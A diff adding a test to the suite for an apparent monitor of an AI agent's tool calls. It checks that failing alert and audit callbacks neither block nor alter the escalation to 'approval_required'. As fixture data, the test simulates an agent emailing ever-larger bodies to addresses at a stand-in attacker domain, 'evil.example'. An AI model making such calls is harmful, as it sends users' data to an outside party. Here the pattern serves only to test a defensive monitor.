@@ -295,6 +295,32 @@ describe('monitor and responses', () => {
     { level: 0.004, action: 'narrow' },
   ] as const;
 
+  it('what `onResponse` throws, and an alert that cannot be written, go to `onFault` and change no decision', async () => {
+    const faults: unknown[] = [];
+    const { g, b } = watching({
+      monitor: new Monitor(learn('d', usual)),
+      responses: new Responses(['send_*'], strict.slice(0, 1)),
+      onResponse: () => {
+        throw new Error('pager down');
+      },
+      audit: { record: () => Promise.reject(new Error('no room')) },
+      onFault: (error) => {
+        faults.push(error);
+        throw new Error('ignored');
+      },
+    });
+    b.begin(SESSION, 'Read my notes.');
+    const t = token();
+    const codes: string[] = [];
+    for (let i = 0; i < 12; i++)
+      codes.push(
+        (await run(g, t, 'send_email', { to: `x${i}@evil.example`, body: 'y'.repeat(500 * i) })).code,
+      );
+    expect(codes.at(-1)).toBe('approval_required');
+    expect(faults).toContainEqual(new Error('pager down'));
+    expect(faults).toContainEqual(new Error('no room'));
+  });
+
   it('a break in the pattern holds effects until a person releases the session; reads go on', async () => {
     const monitor = new Monitor(learn('d', usual));
     const responses = new Responses(['send_*'], strict.slice(0, 1));
